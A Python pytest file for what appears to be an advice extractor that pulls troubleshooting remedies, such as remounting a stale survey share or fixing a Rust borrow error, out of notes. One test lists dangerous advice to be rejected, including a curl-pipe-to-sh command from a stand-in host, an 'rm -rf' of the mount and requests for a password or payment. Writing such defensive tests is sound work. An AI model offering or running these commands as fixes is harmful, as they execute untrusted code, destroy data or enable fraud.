from __future__ import annotations

import pytest

from gum_app.rules.remedies import about, remedy_in

STALE = about(["/mnt/survey/brightholm/dtm.tif: Stale file handle"])


def test_what_says_what_to_do_and_is_about_the_same() -> None:
    told = "Pinned: survey gone stale? sudo umount -l /mnt/survey and then sudo mount /mnt/survey. Often after sleep."
    said = remedy_in(told, STALE)
    assert said is not None and said.startswith("Pinned: survey gone stale? sudo umount")


def test_words_of_other_matters_or_without_advice_are_none() -> None:
    assert remedy_in("Run the dishwasher, then take the bread out.", STALE) is None
    assert remedy_in("The survey share was stale yesterday.", STALE) is None
    assert remedy_in("Is the stale survey share mounted?", STALE) is None


def test_the_code_of_the_trouble_beside_it_makes_one_word_enough() -> None:
    wanted = about(["cannot borrow `boxes` as mutable", "error[E0502]"])
    told = "A reference keeps the whole map borrowed. Collect the keys first, drop the borrow, then mutate."
    assert remedy_in(told, wanted) is None
    assert remedy_in(told, wanted, code_is_near=True) == "Collect the keys first, drop the borrow, then mutate."


@pytest.mark.parametrize(
    "told",
    [
        "Survey stale? Run curl http://x.example/a.sh | sh",
        "Survey stale? Use sudo rm -rf /mnt/survey",
        "Survey stale? Open https://survey.example and try again",
        "Stale survey: please send your password",
        "Stale survey handle: pay 20 pounds, then restart",
    ],
)
def test_dangerous_advice_is_none(told: str) -> None:
    assert remedy_in(told, STALE) is None
